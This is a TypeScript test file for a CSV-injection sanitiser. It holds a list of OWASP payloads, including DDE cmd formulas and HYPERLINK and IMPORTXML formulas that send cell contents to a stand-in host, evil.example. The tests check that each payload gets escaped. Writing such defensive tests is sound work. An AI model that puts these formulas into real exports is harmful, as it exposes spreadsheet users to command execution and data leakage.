import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { fromSpreadsheetSafe, spreadsheetSafe } from './spreadsheet-safe';

// The OWASP CSV-injection payloads, and their variants with leading spaces.
const PAYLOADS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '=IMPORTXML(CONCAT("http://evil.example/?v=", A1), "//a")',
];

describe('CSV cells a spreadsheet would run', () => {
  it('are written as text: each OWASP payload gets a leading apostrophe', () => {
    for (const payload of PAYLOADS) expect(spreadsheetSafe(payload), JSON.stringify(payload)).toBe(`'${payload}`);
  });

  it('leaves ordinary words, names, dates and numbers alone', () => {
    for (const cell of ['Newport', "O'Brien", '07700 900123', '2026-03-01', 'NP20 1AB', '', 'a=b', 'e-mail']) expect(spreadsheetSafe(cell)).toBe(cell);
  });

  it('never writes a cell a spreadsheet would run, and every cell comes back as it went', () => {
    const cells = fc.oneof(
      fc.string(),
      fc.constantFrom(...PAYLOADS),
      fc.string().map((s) => `'${s}`),
      fc.string().map((s) => `''=${s}`),
    );
    fc.assert(
      fc.property(cells, (cell) => {
        const written = spreadsheetSafe(cell);
        expect(/^(?:[=+\-@\t\r]|[ \n]+[=+\-@])/.test(written)).toBe(false);
        expect(fromSpreadsheetSafe(written)).toBe(cell);
      }),
    );
  });
});
